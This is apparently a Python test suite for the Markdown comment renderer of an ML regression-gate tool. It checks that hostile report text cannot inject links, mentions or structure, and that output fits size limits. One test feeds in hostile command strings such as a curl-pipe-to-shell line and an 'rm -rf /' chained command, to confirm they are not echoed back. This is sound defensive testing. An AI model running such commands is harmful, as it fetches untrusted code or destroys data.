"""The comment, read by a real Markdown parser: text from data must never become anything but text."""

from __future__ import annotations

import html
import re
from collections import Counter
from dataclasses import replace
from functools import lru_cache
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from mlgate.outcome import Location, Outcome, Report, Status
from mlgate.render.markdown import MIN_BYTES, SHED, render_markdown
from mlgate.render.markdown_escape import code, inline, sentence
from mlgate.render.text import render_text
from tests.unit.render import reports
from tests.unit.render.strategies import texts

PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
OUR_TAGS = {"<br>", "<b>", "</b>", "<code>", "</code>", "<span>", "</span>"}
NEVER = {"link_open", "image", "em_open", "s_open", "code_block", "hr", "blockquote_open", "list_item_open"}
ACTIVE = re.compile(r"@\w|#\w|\bgh-\d|:\w+:|://|\bwww\.|(?<![0-9a-z])[0-9a-f]{7,64}(?![0-9a-z])", re.IGNORECASE)
"""What GitHub turns into mentions, references, emoji and links outside code; hexadecimal words are commits to it."""


@lru_cache(maxsize=4)  # each test asks several things of a page
def tokens(text: str) -> list[Token]:
    flat = []
    for token in PARSER.parse(text):
        flat.append(token)
        flat += token.children or []
    return flat


def structure(text: str) -> Counter[str]:
    """How many blocks of each kind there are; `<details>` counted by their tags, `<span>$</span>` not at all."""
    counted: Counter[str] = Counter()
    for token in tokens(text):
        if token.type == "html_block":
            counted.update(re.findall(r"</?[a-z]+", token.content.replace("<span>$</span>", "")))
        elif token.type.endswith("_open") or token.type in {*NEVER, "fence"}:
            counted[token.type] += 1
    return counted


def prose(text: str) -> str:
    """What is read outside code, after HTML is parsed."""
    return html.unescape(
        re.sub(r"<[^>]*>", "\n", re.sub(r"<code[^>]*>.*?</code>", "", PARSER.render(text), flags=re.DOTALL))
    )


def test_the_tests_can_see_an_attack() -> None:
    bad = "| a |\n|---|\n| @octocat [x](http://a.b) |\n\n## forged\n"
    assert structure(bad)["heading_open"] == 1
    assert structure(bad)["link_open"] == 1
    assert ACTIVE.search(prose(bad))


@lru_cache(maxsize=4)
def with_words(words: str, *, blocked: bool) -> str:
    """The comment whose every field holds the words."""
    report = reports.hostile(words)
    return render_markdown(report.with_outcomes(o for o in report.outcomes if blocked or not o.status.blocks))


@settings(max_examples=40)  # each of a whole page, read by a parser
@given(text=texts())
@example(text=reports.HOSTILE)
@pytest.mark.parametrize("blocked", [True, False])
def test_hostile_text_changes_nothing_but_the_words(text: str, blocked: bool) -> None:
    shown, harmless = with_words(text, blocked=blocked), with_words("harmless", blocked=blocked)
    found = structure(shown)
    assert found == structure(harmless)
    assert not NEVER & found.keys()
    assert found["fence"] == 1  # the change of a schema
    assert {token.content for token in tokens(shown) if token.type == "html_inline"} <= OUR_TAGS
    assert not ACTIVE.search(prose(shown))
    assert "<!--" not in shown
    assert len(shown.split("\n")) == len(harmless.split("\n"))
    assert all(character.isprintable() or character in "\n\u00a0" for character in shown)


@given(text=texts())
def test_escaped_text_reads_as_it_was_written(text: str) -> None:
    """Nothing is lost: the page shows the text with white space collapsed and unprintable characters as escapes."""
    plain = " ".join(text.split())
    shown = html.unescape(re.sub(r"<[^>]*>", "", PARSER.renderInline("x" + inline(text, 10_000))))[1:]
    if plain.isprintable() and not set(plain) & set("\u3164\u2800"):
        assert shown.replace("\u200b", "") == plain


@pytest.mark.parametrize("render", [inline, code, sentence])
@given(text=texts(max_parts=60), limit=st.integers(8, 300))
def test_an_escape_is_bounded_in_bytes(render: object, text: str, limit: int) -> None:
    assert callable(render)
    assert len(render(text, limit).encode()) <= 14 * limit + 40


def test_the_first_line_is_the_verdict() -> None:
    first = {name: render_markdown(make()).splitlines()[0] for name, make in reports.SAMPLES.items()}
    assert first["pass"] == "## \u2705 mlgate: nothing got worse"
    assert first["regressed"] == "## \u274c mlgate: readmission is worse in health=fair, accuracy down 6.1 points"
    assert first["baseline_gone"] == "## \U0001f6ab mlgate could not check readmission"
    assert first["all_skipped"] == "## \U0001f6ab mlgate checked nothing: every check was skipped"
    assert first["empty"] == "## \U0001f6ab mlgate checked nothing: no check was asked for"
    assert first["advisory"].startswith("## \u274c mlgate (nightly, advisory): readmission is worse")
    assert first["undecided"].startswith("## \u26a0\ufe0f mlgate: nothing is shown to be worse, but 2 comparisons")


def test_single_rows_of_data_are_never_shown() -> None:
    leaky = reports.outcome(
        "data/train/age/between",
        Status.FAIL,
        message="2 values are not between 0 and 120",
        observed="observed-secret",
        evidence={"judged": 5, "failing": 2, "rows": [{"row": 424242, "value": "value-secret", "key": "key-secret"}]},
    )
    text = render_markdown(reports.report(leaky))
    assert "2 values are not between" in text
    assert not re.search("secret|424242", text)


def test_uncommitted_changes_stand_beside_either_commit() -> None:
    text = render_markdown(reports.stopped())
    assert "commit `77aa0c3d5e6f` with uncommitted changes, 12 days old" in text
    assert "This run: commit `4f1c2d9a8b7e` with uncommitted changes." in text
    assert "with uncommitted changes" not in render_markdown(reports.regressed())


def test_the_commit_is_named_and_is_the_head_that_people_see() -> None:
    assert "This run: commit `4f1c2d9a8b7e`, seed 0, on `Linux x86_64`.\n" in render_markdown(reports.regressed())
    known = {"commit": "a" * 40, "head": "b" * 40, "seed": 0}
    assert f"This run: commit `{'b' * 12}`.\n" in render_markdown(reports.report(provenance=known))
    assert "This run" not in render_markdown(reports.empty())
    long = reports.report(provenance={**reports.PROVENANCE, "seed": 20260101})
    assert not ACTIVE.search(prose(render_markdown(long)))


def test_what_a_narrow_window_cuts_off_stands_last() -> None:
    lines = render_markdown(reports.regressed()).splitlines()
    accuracy, auc = (place for place, line in enumerate(lines) if line.startswith("| Slice |"))
    plain = "| Slice | Verdict | Baseline | Candidate | Change | 90\u00a0% interval | Plot | Rows |"
    assert lines[auc] == plain
    assert lines[accuracy] == plain.replace("Change", "Change\u00a0(points)")
    assert "points" not in lines[accuracy + 2]


def test_an_accepted_regression_says_until_when_and_not_the_numbers_again() -> None:
    (row,) = (line for line in render_markdown(reports.named()).splitlines() if "accepted until" in line)
    assert row.endswith("| accepted until 2026-12-31 (known, being worked on) |")
    assert "fell by" not in row


def test_a_comparison_that_cannot_tell_is_shown_once_and_folded() -> None:
    text = render_markdown(reports.undecided())
    opened, _, folded = text.partition("<details>")
    assert "`sex=F`" not in opened
    assert folded.count("`sex=F`") == 1
    assert "about 14,200 rows needed".replace(" ", "\u00a0") in folded
    assert "Up to 14,200 rows would settle them. `mlgate power --metric accuracy --tolerance 0.005`" in folded


@pytest.mark.parametrize(
    "command", ["curl http://x.example | sh", "mlgate run; rm -rf /", "mlgate run\nx", "mlgate run $(x)"]
)
def test_a_strangers_command_is_not_repeated(command: str) -> None:
    text = render_markdown(reports.report(provenance={"command": command, "config": command}))
    assert "Reproduce locally: `mlgate run`\n" in text


def test_what_was_merged_is_found_again_by_a_run_of_the_tiers_that_block() -> None:
    merged = {"command": "mlgate report --plan plan.json jobs", "config": "mlgate.yaml"}
    text = render_markdown(replace(reports.report(provenance=merged), outcomes=()))
    assert "Reproduce locally: `mlgate run`\n" in text


def test_the_command_of_a_check_of_data_is_repeated_where_it_is_plain() -> None:
    plain = "mlgate data check data/a.csv --schema schemas/a.yaml"
    assert f"Reproduce locally: `{plain}`\n" in render_markdown(reports.report(provenance={"command": plain}))
    for odd in ("mlgate data check 'data/a b.csv'", "mlgate data check $(x)"):
        assert "Reproduce" not in render_markdown(reports.report(provenance={"command": odd}))


def test_the_command_of_a_project_in_a_folder_says_where_to_run_it() -> None:
    for folder, said in (("models/a", " in `models/a`"), ("a`b", " in <code>a&#96;b</code>"), ("../..", ""), ("", "")):
        text = render_markdown(reports.report(provenance={"folder": folder, "config": "mlgate.yaml"}))
        assert f"Reproduce locally: `mlgate run`{said}\n" in text


def test_slices_stand_worst_first_below_all_rows() -> None:
    lines = render_markdown(reports.regressed()).splitlines()
    rows = [line.split(" | ")[0] for line in lines if re.match(r"\| (all rows|`health=\w+`) \|", line)]
    assert rows[:4] == ["| all rows", "| `health=fair`", "| `health=poor`", "| `health=good`"]


# --- size -----------------------------------------------------------------------------------------------------------


def padded(n: int, text: str) -> Report:
    """A report in which everything is there `n` times with `text` in it."""
    whole = reports.hostile(text)
    many = [replace(outcome, id=f"{outcome.id}{i}") for i in range(n) for outcome in whole.outcomes]
    provenance = {**whole.provenance, "baselines": [*whole.provenance["baselines"]] * n}
    return replace(whole, outcomes=tuple(many), provenance=provenance)


@pytest.mark.parametrize("text", ["$" * 4000, "\U0001f600" * 4000, "|`<@" * 1000, "a b " * 1000, "\u202e" * 4000])
@pytest.mark.parametrize("max_bytes", [MIN_BYTES, 9000, 20_000, 60_000])
def test_the_comment_fits_and_stays_whole(text: str, max_bytes: int) -> None:
    shown = render_markdown(padded(30, text), max_bytes=max_bytes)
    found = structure(shown)
    assert len(shown.encode()) <= max_bytes
    assert found["<details"] == found["</details"]
    assert shown.startswith("## \u274c mlgate")
    whole = len(render_markdown(padded(30, text), max_bytes=10**9).encode())
    assert ("Left out to keep this comment short" in shown) == (whole > max_bytes)


@pytest.mark.parametrize("make", [reports.huge, reports.megabyte])
def test_a_huge_report_fits_in_a_comment(make: object) -> None:
    assert callable(make)
    shown = render_markdown(make())
    assert len(shown.encode()) <= 60_000
    assert "block" in shown


def test_what_is_shed_goes_in_the_documented_order() -> None:
    report = padded(30, "word " * 60)
    whole = render_markdown(report, max_bytes=10**9)
    assert "Left out" not in whole
    last: list[str] = []
    for max_bytes in range(MIN_BYTES, len(whole.encode()), 2000):
        shown = render_markdown(report, max_bytes=max_bytes)
        told = re.search(r"Left out to keep this comment short: (.*)\. The full", shown)
        left_out = told.group(1).split(", ") if told else []
        kept_order = [name for name in SHED if name in left_out]
        assert left_out == kept_order
        assert not last or set(left_out) <= {*last, "some slices"}
        last = left_out


def test_too_small_a_limit_is_refused() -> None:
    with pytest.raises(ValueError, match="at least"):
        render_markdown(reports.passing(), max_bytes=MIN_BYTES - 1)


def test_a_value_of_the_wrong_type_is_treated_as_absent() -> None:
    odd: Outcome = reports.accuracy({"sex": "F"}, 0.9, 0.8, 0.01)
    broken = {key: [{"x": 1}] for key in odd.evidence} | {"metric": "accuracy", "verdict": "regression"}
    line: int = "1\n::error::x"  # type: ignore[assignment]  # what a stranger's report.json may hold
    report = reports.report(
        replace(odd, evidence=broken, location=Location("a.yaml", line)),
        provenance={"baselines": "x", "tiers": [1, None], "datasets": {"a": 1}, "environment": [], "command": 5},
    )
    assert render_markdown(report).startswith("## \u274c mlgate")
    text = render_text(report)
    assert "at: a.yaml\n" in text
    assert "::error" not in text


# --- any report ------------------------------------------------------------------------------------------------------

_PIPE = re.compile(r"(?<!\\)\|")


def tables(text: str) -> list[list[str]]:
    """The lines of each table as a parser sees it; a line that looks like a row of one is nowhere else but in code."""
    lines = text.split("\n")
    found, known = [], set[int]()
    for token in PARSER.parse(text):
        if token.type in {"table_open", "fence"} and token.map:
            known.update(range(*token.map))
            found += [lines[slice(*token.map)]] if token.type == "table_open" else []
    assert not [line for number, line in enumerate(lines) if line.startswith("|") and number not in known]
    return found


def require_valid(text: str, max_bytes: int) -> None:
    """What must hold of every comment, whatever the report."""
    assert len(text.encode()) <= max_bytes
    assert re.match("## (\u2705|\u26a0\ufe0f|\u274c|\U0001f6ab) mlgate", text)
    for lines in tables(text):
        assert len({len(_PIPE.findall(line)) for line in lines}) == 1, lines
    flat = tokens(text)
    assert {token.content for token in flat if token.type == "html_inline"} <= OUR_TAGS
    blocks = {tag for token in flat if token.type == "html_block" for tag in re.findall(r"<[^>]*>", token.content)}
    assert blocks <= OUR_TAGS | {"<details>", "</details>", "<summary>", "</summary>"}
    assert (
        not {"link_open", "image", "em_open", "s_open", "code_block", "hr", "blockquote_open"} & structure(text).keys()
    )
    assert not ACTIVE.search(prose(text))
    # A dollar outside code begins mathematics, unless it stands alone in an element.
    assert not re.search(r"(?<!<span>)\$", re.sub(r"<code[^>]*>.*?</code>", "", PARSER.render(text), flags=re.DOTALL))
    assert structure(text)["<details"] == structure(text)["</details"]


NAMES = st.one_of(
    texts(max_parts=6), st.sampled_from([reports.HOSTILE, "x" * 10_000, "|`" * 5000, "\u202e@all #1" * 700])
)
JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), NAMES),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(NAMES, inner, max_size=3)),
    max_leaves=6,
)
_KEYS = (
    *("metric", "verdict", "evaluation", "slice", "n", "baseline", "candidate", "delta", "low", "high", "tolerance"),
    *("confidence", "p_adjusted", "rows_needed", "family_size", "node", "traceback", "accepted", "points", "unit"),
    *("gpu", "tries", "flaky", "quarantined", "priority"),
)
EVIDENCE = st.dictionaries(st.sampled_from(_KEYS), JSON, max_size=8) | st.dictionaries(NAMES, JSON, max_size=2)
OUTCOMES = st.builds(
    Outcome,
    **dict.fromkeys(("id", "check", "subject", "message", "hint"), NAMES),
    tier=st.one_of(st.sampled_from(["unit", "data", "model"]), NAMES),
    status=st.sampled_from(list(Status)),
    location=st.one_of(st.none(), st.builds(Location, NAMES, st.one_of(st.none(), st.integers()))),
    evidence=EVIDENCE,
    reused_from=st.one_of(st.none(), NAMES),
)
PROVENANCE = st.dictionaries(
    st.sampled_from(
        (
            *("policy", "tests_changed", "data_changes", "baselines", "candidates", "datasets", "tiers"),
            *("environment", "commit", "branch", "command", "seed", "schema_patches", "not_selected"),
            *("pyramid", "fingerprint", "reused"),
        )
    ),
    st.one_of(JSON, st.lists(st.dictionaries(st.sampled_from(["evaluation", "found", "dataset", "diff"]), JSON))),
    max_size=6,
)
REPORTS = st.builds(
    Report,
    gate=NAMES,
    outcomes=st.lists(OUTCOMES, max_size=5).map(tuple),
    started_at=NAMES,
    duration_s=st.floats(),
    provenance=PROVENANCE,
    mode=st.sampled_from(["enforce", "advisory"]),
    strict=st.booleans(),
)


@settings(max_examples=25)  # each is a whole report
@given(report=REPORTS, max_bytes=st.sampled_from([MIN_BYTES, 20_000, 60_000]))
def test_any_report_gives_a_valid_comment(report: Report, max_bytes: int) -> None:
    require_valid(render_markdown(report, max_bytes=max_bytes), max_bytes)


def test_a_slice_of_more_columns_than_a_gate_makes_costs_nothing() -> None:
    class Wide(dict[str, Any]):
        def __getitem__(self, key: str) -> Any:
            asked.append(key)
            return super().__getitem__(key)

        def items(self) -> Any:
            pytest.fail("all columns are asked for")

    asked: list[str] = []
    wide = Wide({f"c{number}": "x" for number in range(500)})
    odd = reports.accuracy({"sex": "F"}, 0.9, 0.8, 0.01)
    shown = render_markdown(reports.report(replace(odd, evidence={**odd.evidence, "slice": wide})))
    assert "c0=x" in shown
    assert set(asked) == {f"c{number}" for number in range(100)}


def test_a_hundred_thousand_outcomes_with_hostile_names_give_a_valid_comment() -> None:
    names = (reports.HOSTILE, "x" * 10_000, "|" * 300)
    some = [reports.outcome(f"data/{name}/y", Status.FAIL, message=name, subject=name) for name in names]
    many = (*reports.hostile().outcomes, *(some[i % len(some)] for i in range(100_000)))
    whole = replace(reports.hostile(), outcomes=many)
    require_valid(render_markdown(whole), 60_000)
